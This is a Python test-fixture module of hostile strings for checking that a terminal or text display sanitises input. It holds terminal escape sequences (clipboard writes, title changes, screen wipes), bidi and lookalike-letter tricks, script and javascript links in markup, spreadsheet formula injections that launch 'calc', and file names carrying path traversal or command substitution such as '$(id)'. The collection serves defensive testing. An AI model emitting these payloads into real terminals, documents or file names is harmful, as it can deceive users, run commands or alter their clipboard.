"""Text that means harm: what servers, files and people may put into any string of ours.

Every case is one string. `MARK` stands where a terminal would take it as the argument of a command: it may be
shown as letters, never reach a terminal inside a control string.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import NamedTuple

MARK = "INTRUDER"
"""What a control string would carry."""
MARK_64 = "SU5UUlVERVI="
"""The same in base64, as the clipboard takes it."""
BEFORE, AFTER = "quiet", "water"
"""Stand on both sides of a case, so that a surface proves to show anything."""
ESC, BEL = "\x1b", "\x07"
ST = ESC + "\\"


class Case(NamedTuple):
    """One hostile string."""

    name: str
    text: str

    @property
    def data(self) -> bytes:
        """As it may stand in a file: bytes that are no UTF-8 are raw."""
        is_half = self.name == "halves of letters"
        return self.text.encode("utf-8", "surrogatepass" if is_half else "surrogateescape")

    @property
    def valid(self) -> str:
        """As it may come in JSON, which can hold the half of a letter, but no bytes."""
        return self.data.decode("utf-8", "surrogatepass" if "\ud83d" in self.text else "replace")


_OSC = {
    "window title and icon": "0;{}", "window title": "2;{}", "palette": "4;1;{}",
    "working directory": "7;file://host/{}", "link that lies": "8;;https://{}.example/",
    "link to a file": "8;;file:///{}", "link to a program": "8;;ssh://-oProxyCommand={}/",
    "notice": "9;{}", "progress of a task": "9;4;3;50", "foreground asked": "10;?",
    "background set": "11;#{}", "font": "50;{}", "clipboard written": "52;c;@",
    "clipboard read": "52;c;?", "selection written": "52;p;@", "kitty notice": "99;i=1;{}",
    "prompt mark": "133;C", "command line told": "633;E;{}", "urxvt notice": "777;notify;{};x",
    "file received": "1337;File=name=@;inline=0:@", "profile set": "1337;SetProfile={}",
    "kitty clipboard": "5522;type=read;{}",
}  # fmt: skip
_STRINGS = {
    "setting asked": "P$q{}", "capability asked": "P+q544e", "through tmux": "Ptmux;\x1b\x1b]0;{}\x07",
    "tmux control": "P1000p%{}", "sixel picture": "Pq#0;2;0;0;0{}", "keys redefined": "P1;1|17/@",
    "kitty picture": "_Ga=T,f=24,s=1,v=1;{}", "kitty file": "_Gt=f,a=q,i=1;@",
    "privacy message": "^{}", "start of string": "X{}", "title of screen": "k{}",
}  # fmt: skip
_CSI = {
    "cursor place asked": "6n", "device asked": "c", "unit asked": "=c", "version asked": ">q",
    "private state asked": "?6n", "title asked": "21t", "checksum of an area": "1;1;9;9;1;1*y",
    "window moved": "3;9999;9999t", "window made an icon": "2t", "window made tiny": "8;1;1t",
    "kitty keys": ">31u", "xterm keys": ">4;2m", "screen cleared": "2J", "scrollback wiped": "3J",
    "alternate screen left": "?1049l", "alternate screen entered": "?1049h", "mouse off": "?1000l",
    "mouse on": "?1003h", "paste unguarded": "?2004l", "display frozen": "?2026h",
    "cursor hidden": "?25l", "scroll region of a line": "1;1r", "origin moved": "?6h",
    "soft reset": "!p", "line of thousands": "2000000000b", "blanks inserted": "999999999@",
    "cursor thrown": "999999999;999999999f", "text concealed": "8m" + MARK,
    "a mile of parameters": "1;" * 5_000 + "m", "line deleted": "M", "tab stops cleared": "3g",
}  # fmt: skip
_BROKEN = {
    "no end": f"{ESC}]0;{MARK} and no end",
    "string without an end": f"{ESC}P{MARK}",
    "escape at the end": f"text{ESC}",
    "escape alone": ESC,
    "sequence cancelled": f"{ESC}[2\x18J{ESC}]0;{MARK}\x1a",
    "sequence in a sequence": f"{ESC}{ESC}[{ESC}]0;{MARK}{BEL}",
    "alive when cleaned once": f"{ESC}[{ESC}[2J2J {ESC}{ESC}[2J]0;{MARK}{BEL}",
    "alive when the middle goes": f"{ESC}{ESC}[0m]0;{MARK}{BEL}",
    "null inside": f"{ESC}\x00]0;{MARK}{BEL}",
    "delete inside": f"{ESC}\x7f[2J",
    "line end inside": f"{ESC}]0;\n{MARK}{BEL}",
    "invisible inside": f"{ESC}\u200b[2J{ESC}\u2060]0;{MARK}{BEL}",
}
_OTHER_ESCAPES = {
    "full reset": f"{ESC}c",
    "screen of E": f"{ESC}#8",
    "line drawing": f"{ESC}(0{MARK}",
    "link left open": f"{ESC}]8;;https://{MARK}.example{BEL}never closed",
    "what was read written over": f"rm -rf{ESC}[A{ESC}[2K{MARK}",
    "all at once": f"{ESC}[2J{ESC}]52;c;{MARK_64}{BEL}\u202e\x9b2J[/no]\ufeff\U000e0049",
}
_CONTROLS = {
    "enquiry": "\x05" * 3,
    "shift out": f"\x0e{MARK}",
    "shift in": f"\x0f{MARK}",
    "bells": BEL * 2_000,
    "backspaces over a command": "rm -rf ~" + "\b" * 8 + "ls -la  ",
    "return over a command": "rm -rf ~\rls -la  ",
    "tab and feed": "a\x0bb\x0cc",
    "nulls": "a\x00b\x00",
    "separators": "a\x1cb\x1dc\x1ed\x1fe",
    "delete": "a\x7f\x7fb",
    "thousands of tabs": "\t" * 5_000,
    "thousands of line ends": "\n" * 5_000,
}
_HIGH_CONTROLS = {
    "C1 screen cleared": "\x9b2J",
    "C1 title": f"\x9d0;{MARK}\x9c",
    "C1 device string": f"\x90$q{MARK}\x9c",
    "C1 application string": f"\x9f{MARK}\x9c",
    "C1 privacy string": f"\x9e{MARK}\x9c",
    "C1 start of string": f"\x98{MARK}\x9c",
    "C1 next line": f"a\x85{MARK}",
    "C1 all of them": "".join(map(chr, range(0x80, 0xA0))),
    "bytes of C1": f"\udc9b2J\udc9d0;{MARK}{BEL}",
    "overlong escape": "\udcc0\udc9b2J\udce0\udc80\udc9b2J",
    "halves of UTF-16": "".join(f"\udcff\x00{char}\x00" for char in f"{ESC}[2J"),
}
_DECEIVING = {
    "order turned round": "access level \u202euser\u202c",
    "order turned round in a name": "photo_\u202egpj.exe",
    "isolates": f"\u2066{MARK}\u2069\u2067x\u2069",
    "order never turned back": "\u202e\u202e\u202e" + MARK,
    "marks of direction": "a\u200eb\u200fc\u061cd",
    "comment that is code": "if x:\u202e\u2066# then\u2069\u2066 return\u2069",
    "tags": "hi" + "".join(chr(0xE0000 + ord(char)) for char in MARK),
    "zero width": "p\u200ba\u200dy\ufeffp\u2060a\u200cl",
    "soft hyphens": "pay\u00adpal\u00ad",
    "joiners in hundreds": "a" + "\u200d" * 500 + "b" + "\u200c" * 500,
    "selectors in hundreds": "x" + "\ufe0f" * 500,
    "bytes in selectors": "x" + "".join(chr(0xE0100 + ord(char)) for char in MARK),
    "marks in thousands": "Z" + "\u0301\u0316\u0335" * 2_000,
    "marks in Hebrew and Thai": "\u05d0" + "\u05b0" * 300 + "\u0e01" + "\u0e49" * 300,
    "enclosed a thousand times": "o" + "\u20dd" * 1_000,
    "family pictures": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 200,
    "half a flag": "\U0001f1e9" * 3,
    "wide letters": "漢字" * 300,
    "no characters": "\ufffe\uffff\ufdd0\U0010ffff",
    "private letters": "\ue000\uf8ff\U000f0000",
    "line and paragraph": "a\u2028b\u2029c",
    "letters that look alike": "https://раypal.com/login",
    "blank braille": "\u2800" * 50,
    "blank hangul": "\u3164" * 20 + "\uffa0\u115f\u1160" * 10,
    "blanks of all widths": "a\u00a0\u2003\u2007\u202f\u205f\u3000b",
    "halves of letters": "a\ud83db\ude00c",
    "music and shorthand": "a\U0001d173b\U0001bca0c\U0001d17ad",
    "annotations": f"a\ufff9{MARK}\ufffab\ufffbc",
}
_MARKUP = {
    "markup of Rich": f"[bold red]x[/bold red] [link=http://{MARK}]t[/link] [/]",
    "markup that closes nothing": "array[/0] [/] [/nope]",
    "markup that acts": f"[@click=app.quit]{MARK}[/] [@click=app.bell()]x[/]",
    "markup left open": "[bold",
    "markup of a colour": "[on #ff0000 blink]x[/on] [$primary]y[/]",
    "markup in quotes": "[link='http://x']t[/] [\"]",
    "emoji code": f":{MARK}: :bomb: :boom:",
    "format of Python": "{0.__class__} %s %n {",
    "link to a script": f"[safe](javascript:{MARK}) [f](file:///etc/passwd) [d](data:text/html,x)",
    "picture from elsewhere": f"![i](http://{MARK}.example/?q=secret)",
    "link that lies in Markdown": f"[https://good.example](https://{MARK}.example/)",
    "user before the host": f"https://good.example@{MARK}.example/",
    "fence never closed": f"```\nnever closed {ESC}]0;{MARK}{BEL}",
    "fence with a language": f"```{ESC}[2J[/x]\ncode\n```",
    "quotes in thousands": ">" * 3_000 + " x",
    "lists in lists": "\n".join("  " * depth + "- x" for depth in range(400)),
    "table of thousands": "|a" * 2_000 + "|\n" + "|-" * 2_000 + "|\n",
    "brackets in thousands": "[" * 20_000,
    "stars in thousands": "*a " * 20_000,
    "HTML": f"<script>{MARK}</script><img src=x onerror={MARK}>",
    "entities of controls": f"&#27;]0;{MARK}&#7; &#x9b;2J &#x202e;x &ZeroWidthSpace;",
    "escapes as letters": f"\\x1b]0;{MARK}\\x07 \\u001b[2J \\033c",
    "percent signs": f"https://x.example/%1b]0;{MARK}%07",
    "maths that goes wrong": "$$\\frac{" + "{" * 300 + "$$ $\\text{\x1b[2J}$",
    "definition of a link": f"[x]: https://x.example/ '{ESC}]0;{MARK}{BEL}'\n\n[x]",
    "footnote": f"x[^1]\n\n[^1]: {ESC}[2J{MARK}",
}
_LARGE = {
    "one line of 2 MB": "A" * 2_000_000,
    "a line of wide letters": "漢" * 100_000,
    "100,000 lines": "x\n" * 100_000,
    "words without an end": "a-" * 50_000,
}


def _cases() -> Iterator[Case]:
    for name, body in _OSC.items():
        end = ST if len(name) % 2 else BEL
        yield Case(f"OSC {name}", ESC + "]" + _filled(body) + end + "x")
    for name, body in _STRINGS.items():
        yield Case(f"string {name}", ESC + _filled(body) + ST)
    for name, body in _CSI.items():
        yield Case(f"CSI {name}", f"{ESC}[{body}")
    tables = (_OTHER_ESCAPES, _BROKEN, _CONTROLS, _HIGH_CONTROLS, _DECEIVING, _MARKUP, _LARGE)
    for table in tables:
        yield from (Case(name, text) for name, text in table.items())


def _filled(body: str) -> str:
    return body.replace("{}", MARK).replace("@", MARK_64)


CASES: tuple[Case, ...] = tuple(_cases())
"""All of them."""
LARGE = frozenset(_LARGE)
"""The names of those that take long."""
WORST = next(case.text for case in CASES if case.name == "all at once")
"""One string with a bit of everything."""

FORMULAS: dict[str, str] = {
    "equals": '=HYPERLINK("http://x.example","y")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line end": "\n=1+1",
    "blank before": " =1+1",
    "wide equals": "＝1+1",
    "invisible before": "\u200b=1+1",
    "quote": '"=1+1',
    "on the second line": "x\n=1+1",
}
"""What a spreadsheet would run."""

FILE_NAMES: tuple[str, ...] = (
    "../../etc/passwd", "/etc/passwd", "..\\..\\boot.ini", "a/b/c", ".", "..", "...", "", " ", ".hidden",
    "-rf", "--help", "CON", "nul.json", "aux", "COM1.md", "a\x00b", "a\nb", "a\rb", "n" * 300,
    "漢" * 120, "\u202egpj.exe", "e\u0301", "~root", "$(id)", "`id`", "file:///etc/passwd",
    "\\\\server\\share", "C:x", "a:b", "a|b", "trailing. ", "%2e%2e%2f", "\x1b]0;INTRUDER\x07",
    "．．／x", "\u2024\u2024/x", "\ud800", "\u3164",
)  # fmt: skip
"""Names and titles that want to be somewhere else."""
